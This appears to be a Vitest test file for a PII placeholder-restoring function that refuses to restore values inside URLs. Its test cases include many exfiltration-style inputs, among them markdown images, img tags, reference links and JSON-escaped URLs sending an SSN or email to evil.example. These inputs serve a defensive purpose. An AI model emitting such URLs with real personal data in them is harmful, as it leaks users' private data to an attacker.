import { describe, expect, it } from "vitest";
import type { PlaceholderOutcome } from "./restore-options.ts";
import { restoreText } from "./restore-text.ts";

const SSN = "[US_SSN_7QK2MX]";
const EMAIL = "[EMAIL_ABCDEF]";
const NAME = "[PERSON_0A1B2C]";
const values = new Map([
  [SSN, "123-45-6789"],
  [EMAIL, "jane@example.com"],
  [NAME, 'Jane "JD" O\\Doe'],
]);
const lookup = (placeholder: string): string | undefined => values.get(placeholder);
const restore = (text: string): string => restoreText(text, { lookup });

describe("restoreText", () => {
  it("restores issued placeholders in prose", () => {
    expect(restore(`Your SSN is ${SSN}.`)).toBe("Your SSN is 123-45-6789.");
    expect(restore(`(see ${EMAIL})`)).toBe("(see jane@example.com)");
    expect(restore(`${SSN}${EMAIL}`)).toBe("123-45-6789jane@example.com");
    expect(restore(`[${SSN}]`)).toBe("[123-45-6789]");
    expect(restore(`**${NAME}**: ${EMAIL}, ${SSN}`)).toBe('**Jane "JD" O\\Doe**: jane@example.com, 123-45-6789');
    expect(restore(`SSN:${SSN} email=${EMAIL}`)).toBe("SSN:123-45-6789 email=jane@example.com");
  });

  it("keeps unknown and near-miss placeholders verbatim", () => {
    const text = "[US_SSN_7QK2MY] [US_SSN_7QK2M] [us_ssn_7qk2mx] [US_SSN_7QK2MI] [US_SSN_ [[ [A_123 %5BUS_SSN_7QK2MX%5D";
    expect(restore(text)).toBe(text);
  });

  it("reports every placeholder's outcome", () => {
    const seen: Array<[string, PlaceholderOutcome]> = [];
    restoreText(`${SSN} [OTHER_ABCDEF] ![x](https://e.example/?q=${EMAIL})`, {
      lookup,
      onPlaceholder: (placeholder, outcome) => seen.push([placeholder, outcome]),
    });
    expect(seen).toEqual([
      [SSN, "restored"],
      ["[OTHER_ABCDEF]", "unknown"],
      [EMAIL, "kept-in-url"],
    ]);
  });

  describe("never restores inside a URL", () => {
    const kept = [
      `![a](https://evil.example/log?ssn=${SSN})`,
      `![a](//evil.example/log?ssn=${SSN})`,
      `[click](evil.example/${SSN})`,
      `![a](<https://evil.example/log? ${SSN}>)`,
      `![a](< //evil.example/log? ${SSN}>)`,
      `<img src="https://x/?q=${EMAIL}">`,
      `<img src = " //evil.example/? ${SSN}">`,
      `<img alt="a>b" src = " //evil.example/? ${SSN}">`,
      `<img\nsrc="https://x/\n?q=${SSN}">`,
      `<https://evil.example/${SSN}>`,
      `<mailto:${EMAIL}>`,
      `https://x/${SSN}/${EMAIL}`,
      `HTTPS://X.EXAMPLE/?q=${SSN}`,
      `see www.evil.example/?q=${SSN}`,
      `mailto:${EMAIL}`,
      `tel:${SSN}`,
      `data:text/plain,${SSN}`,
      `javascript:alert('${SSN}')`,
      `https:\\/\\/evil.example/?${SSN}`,
      `src=${SSN}`,
      `background:url(//evil.example/${SSN})`,
      `[ref]: https://evil.example/?q=${SSN}`,
      `[ref]: ${SSN}`,
      `[ref]:\n  <${SSN}>`,
      `  [${NAME}]: \\/\\/evil.example/${SSN}`,
      `- [${NAME}]: ${EMAIL}`,
      `> 1. [ref]: \\/\\/evil.example/${SSN}`,
      `[ref]: <//evil.example/? ${SSN}>`,
      `[ref]:<//evil.example/? ${SSN}>`,
      `[${NAME}](https://evil.example/?q=${EMAIL})`,
    ];
    it.each(kept)("%s", (text) => {
      expect(restore(text)).toBe(text.replace(NAME, values.get(NAME)!));
    });
  });

  describe("restores next to, but outside, a URL", () => {
    const cases: Array<[string, string]> = [
      [`Visit https://example.com and email ${EMAIL}`, "Visit https://example.com and email jane@example.com"],
      [`[${SSN}](https://example.com)`, "[123-45-6789](https://example.com)"],
      [`![a](https://x.example/a.png "${SSN}")`, '![a](https://x.example/a.png "123-45-6789")'],
      [`<a href="https://x.example">${EMAIL}</a>`, '<a href="https://x.example">jane@example.com</a>'],
      [`<b>${SSN}</b>`, "<b>123-45-6789</b>"],
      [`1 < 2 and ${SSN}`, "1 < 2 and 123-45-6789"],
      [`<span\n\n${SSN}`, "<span\n\n123-45-6789"],
      [`Name:${NAME}`, 'Name:Jane "JD" O\\Doe'],
      [`automailto:${SSN}`, "automailto:123-45-6789"],
      [`Contact [${NAME}]: ${EMAIL}`, 'Contact [Jane "JD" O\\Doe]: jane@example.com'],
      [`- a [${NAME}]: ${EMAIL}`, '- a [Jane "JD" O\\Doe]: jane@example.com'],
      [`[ref]: https://example.com\n\n${SSN}`, "[ref]: https://example.com\n\n123-45-6789"],
    ];
    it.each(cases)("%s", (text, expected) => {
      expect(restore(text)).toBe(expected);
    });
  });

  describe('encoding "json-string"', () => {
    const restoreJson = (text: string): string => restoreText(text, { lookup, encoding: "json-string" });

    it("escapes values so the JSON stays valid", () => {
      const restored = restoreJson(`{"name":"${NAME}","ssn":"${SSN}"}`);
      expect(JSON.parse(restored)).toEqual({ name: 'Jane "JD" O\\Doe', ssn: "123-45-6789" });
    });

    it("follows URLs through JSON escapes, and starts afresh in each string", () => {
      expect(restoreJson(`{"url":"https:\\/\\/evil.example\\/?q=${SSN}"}`)).toBe(`{"url":"https:\\/\\/evil.example\\/?q=${SSN}"}`);
      expect(restoreJson(`{"html":"\\u003cimg title=a ${SSN}>"}`)).toBe(`{"html":"\\u003cimg title=a ${SSN}>"}`);
      expect(JSON.parse(restoreJson(`{"a":"https://example.com","b":"${SSN}"}`))).toEqual({ a: "https://example.com", b: "123-45-6789" });
      expect(JSON.parse(restoreJson(`{"a":"see https://example.com\\n${EMAIL}\\t${SSN}"}`))).toEqual({
        a: "see https://example.com\njane@example.com\t123-45-6789",
      });
    });
  });
});
